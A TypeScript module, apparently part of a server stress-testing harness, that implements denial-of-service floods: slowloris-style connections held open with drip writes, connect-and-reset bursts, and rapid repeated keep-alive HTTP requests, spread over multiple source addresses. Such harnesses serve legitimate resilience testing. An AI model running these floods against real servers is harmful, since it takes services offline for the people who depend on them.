/** Connections of a flood, byte by byte: held open, left at once, or asked again. Whatever the server cuts off is opened again. */
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { inLanes, type Attack, type Flood } from './run-flood.ts'

const pauseMs = 500

function open({ origin, address }: Attack, lane: number, ofOneAddress: number): Socket {
  const localAddress = address(Math.floor(lane / ofOneAddress))
  return connect({ host: origin.hostname, port: Number(origin.port), localAddress }).on(
    'error',
    () => undefined,
  )
}

export interface Held {
  readonly lanes: number
  readonly ofOneAddress: number
  /** Does not read what comes. */
  readonly unread?: boolean
}

interface Pieces {
  readonly first: string
  /** Sent again and again. Who does not read learns by it alone that they were cut off. */
  readonly drip?: string
}

export const hold =
  ({ lanes, ofOneAddress, unread = false }: Held, pieces: (attack: Attack, lane: number) => Pieces): Flood =>
  async (attack) => {
    await inLanes(attack, lanes, async (lane) => {
      const { first, drip = '' } = pieces(attack, lane)
      const socket = open(attack, lane, ofOneAddress)
      if (unread) socket.pause()
      else socket.resume()
      attack.sent()
      await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
      socket.write(first)
      while (!socket.destroyed && attack.isWanted()) {
        await delay(pauseMs)
        if (drip !== '') socket.write(drip)
      }
      attack.met(socket.destroyed ? 'cut off' : 'held to the end')
      socket.destroy()
    })
  }

/** A connection a turn, which is left at once. */
export const leave =
  (pieces: (attack: Attack) => string): Flood =>
  async (attack) => {
    await inLanes(attack, 64, async (lane) => {
      const socket = open(attack, lane, 8)
      attack.sent()
      await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
      socket.write(pieces(attack), () => socket.resetAndDestroy())
      await once(socket, 'close')
      attack.met('left')
    })
  }

/** A connection a lane; after each answer, which is small, it asks again. */
export const askOn =
  ({ lanes, ofOneAddress }: Held, question: (attack: Attack, lane: number) => string): Flood =>
  async (attack) => {
    await inLanes(attack, lanes, async (lane) => {
      const socket = open(attack, lane, ofOneAddress)
      const ask = () => {
        attack.sent()
        socket.write(question(attack, lane))
      }
      socket.once('connect', ask).on('data', (bytes) => {
        const [, status] = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString('latin1', 0, 12)) ?? []
        if (status === undefined) return
        attack.met(status)
        if (attack.goesOn()) ask()
        else socket.destroy()
      })
      await once(socket, 'close').catch(() => attack.met('cut off'))
    })
  }

export const get = (path: unknown, more = '') =>
  `GET ${String(path)} HTTP/1.1\r\nHost: localhost\r\n${more}\r\n`
